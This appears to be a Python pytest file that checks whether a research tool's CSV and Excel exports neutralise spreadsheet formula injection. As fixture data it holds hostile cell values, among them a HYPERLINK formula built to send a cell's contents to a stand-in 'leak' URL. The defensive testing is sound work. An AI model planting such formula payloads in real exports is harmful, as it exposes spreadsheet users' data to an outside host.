"""Issue 15, exports: no text cell a spreadsheet would run as a formula, header row included.

Finding: exports were not neutralised against spreadsheet formulas (a value starting with
``=``, ``+``, ``-``, ``@``), and the Excel header row was written as a live formula.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from support.hypothesis_profile import tried

from widgets.cli import main
from widgets.core.instrument import instrument
from widgets.core.scoring import score
from widgets.research.export import EXPORT_SCOPE, excel_bytes, export_submissions
from widgets.research.spreadsheet_safe import FORMULA_STARTS, is_formula_like, neutralise
from widgets.store import Store

HOSTILE_CODES = ["=1+2", "+1+2", "-2+3", "@SUM(A1)", "=HYPERLINK(1)"]
HOSTILE_KEY = '=HYPERLINK("http://example.org/?leak="&A2,"open")'


@pytest.fixture
def hostile(store: Store) -> Store:
    """Consented questionnaires whose code and stored answer keys are formulas (a paper
    import or a tampered database can bring such text)."""
    thai = instrument("thai-internalised-stigma")
    result = score(thai, dict.fromkeys(thai.item_ids, 2))
    for code in HOSTILE_CODES:
        odd = replace(result, answers={**result.answers, HOSTILE_KEY: 1})
        store.add_submission(code, odd, language="en", administered="paper")
        store.record_consent(code, EXPORT_SCOPE, "2026-11")
    return store


def _cells(path: Path) -> list[str]:
    rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def test_csv_and_excel_hold_no_formula_header_included(hostile: Store, tmp_path: Path) -> None:
    result = export_submissions(hostile, tmp_path, formats="both", excel=True)
    csvs = [path for path in result.paths if path.suffix == ".csv"]
    assert len(csvs) == 3
    for path in csvs:
        for cell in _cells(path):
            assert not is_formula_like(cell), (path.name, cell)
    wide = _cells(next(p for p in csvs if "submissions" in p.name))
    assert "'" + HOSTILE_KEY in wide  # the header cell, kept readable
    assert {"'" + code for code in HOSTILE_CODES} <= set(wide)
    [xlsx] = [path for path in result.paths if path.suffix == ".xlsx"]
    book = load_workbook(xlsx)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not is_formula_like(cell.value), (sheet.title, cell.coordinate)
                    seen += 1
    header = [cell.value for cell in book["submissions"][1]]
    assert "'" + HOSTILE_KEY in header
    assert seen > 50
    numbers = [cell.value for cell in book["submissions"]["G"][1:]]
    assert all(isinstance(value, int) for value in numbers)  # numbers stay numbers


def test_within_score_output_is_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    thai = instrument("thai-internalised-stigma")
    sheet = tmp_path / "paper.csv"
    sheet.write_text(
        "code," + ",".join(thai.item_ids) + "\n=1+2," + ",".join("2" for _ in thai.item_ids) + "\n",
        encoding="utf-8",
    )
    assert main(["score", "--instrument", "thai-internalised-stigma", str(sheet)]) == 0
    printed = capsys.readouterr().out
    assert "'=1+2," in printed and "\n=1+2" not in printed


@given(st.text(max_size=30))
def test_the_neutraliser_leaves_nothing_a_spreadsheet_would_run(text: str) -> None:
    tried("export neutraliser")
    safe = neutralise(text)
    assert not is_formula_like(safe)
    assert neutralise(safe) == safe  # once is enough: a second pass changes nothing
    if is_formula_like(text):
        assert safe == "'" + text
    else:
        assert safe == text


@given(
    st.text(alphabet=st.sampled_from(sorted(FORMULA_STARTS) + list("AB1 '\"")), max_size=12),
    st.integers(-5, 5),
)
def test_openpyxl_never_reads_a_neutralised_cell_as_a_formula(text: str, number: int) -> None:
    tried("export neutraliser")
    book = load_workbook(io.BytesIO(excel_bytes({"s": [[text, "x"], [text, number]]})))
    sheet = book["s"]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    assert sheet["B2"].value == number
